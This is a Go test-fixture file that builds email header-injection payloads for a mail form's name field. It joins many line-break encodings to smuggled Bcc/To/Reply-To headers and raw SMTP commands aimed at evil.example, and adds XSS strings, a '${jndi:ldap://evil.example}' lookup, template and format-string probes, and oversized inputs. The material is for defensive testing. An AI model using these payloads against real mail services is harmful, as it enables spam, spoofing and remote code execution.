package mailtest

import "strings"

// breaks are what has ended a line somewhere, whole and in parts, raw and in the
// guises that some decoder along the way may take off.
var breaks = []string{
	"\r\n", "\n", "\r", "\n\r", "\r\r\n", "\x00", "\x00\r\n", "\v", "\f", "\x1c", "\x1e", "\x85", "\u0085", "\u2028", "\u2029",
	"\u560a", "\u010a\u010d", "\u240d\u240a", "\xe5\x98\x8a", "\\r\\n", "%0d%0a", "%0A", "%E2%80%A8", "=0D=0A", "=?utf-8?q?=0D=0A?=", "&#13;&#10;",
	"\r\n\t", "\r\n ", " \r\n", "\x08\r\n", "\u202e\r\n", "\u200b\n", "\ufeff\r\n", "\xff\r\n", "\xc0\x8a", "\x1b[2K\r\n",
}

// smuggled are what would be gained by ending a line.
var smuggled = []string{
	"Bcc: eve@evil.example", "To: eve@evil.example", "Cc: eve@evil.example,mallory@evil.example", "Subject: Buy this",
	"From: Rootline <admin@clinics.example>", "Reply-To: eve@evil.example", "Content-Type: text/html", "Auto-Submitted: no",
	"\r\n<h1>Buy this</h1>", ".\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<mallory@evil.example>\r\nDATA\r\n",
	".\nRCPT TO:<mallory@evil.example>\n", "--=_boundary--", "Message-ID: <x@evil.example>", "X-Header: " + strings.Repeat("a", 1200),
	"DATA", "QUIT", "Return-Path: <eve@evil.example>",
}

// Payloads are what somebody may type in order to send letters of their own.
func Payloads() []string {
	var all []string
	for _, b := range breaks {
		for _, s := range smuggled {
			all = append(all, "Amy"+b+s)
		}
		all = append(all, b, strings.Repeat(b, 40)+"Amy", "Amy"+strings.Repeat(b, 40))
	}
	return append(all,
		"https://evil.example/win", "www.evil.example", "evil.example", "eve@evil.example", "mailto:eve@evil.example", "//evil.example",
		"javascript:alert(1)", `"><img src=https://evil.example/x>`, "<a href='https://evil.example'>here</a>", "</p><script>alert(1)</script>",
		"http:⁄⁄evil.example", "evil。example", "evil．example", "evil.\u200bexample", "evil\u200d.example", "a.b.c.d.e.example/x?y=z",
		"{{.URL}}", "{{.By}}", "${jndi:ldap://evil.example}", "%s%n", "=?utf-8?b?PGgxPg==?=", "\u202egnp.live", strings.Repeat("a", 100_000),
		strings.Repeat("Dr. ", 5000), strings.Repeat("\u0301", 2000), strings.Repeat("👩‍⚕️", 500), "Amy, eve@evil.example", "Amy <eve@evil.example>", "(Amy) eve@evil.example")
}
